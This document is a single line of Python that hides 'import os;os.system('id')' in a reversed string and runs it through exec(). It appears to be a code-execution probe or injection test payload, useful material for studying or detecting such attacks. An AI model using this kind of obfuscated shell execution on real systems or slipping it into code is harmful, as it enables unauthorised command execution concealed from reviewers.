exec("".join(reversed(")'di'(metsys.so;so tropmi")))
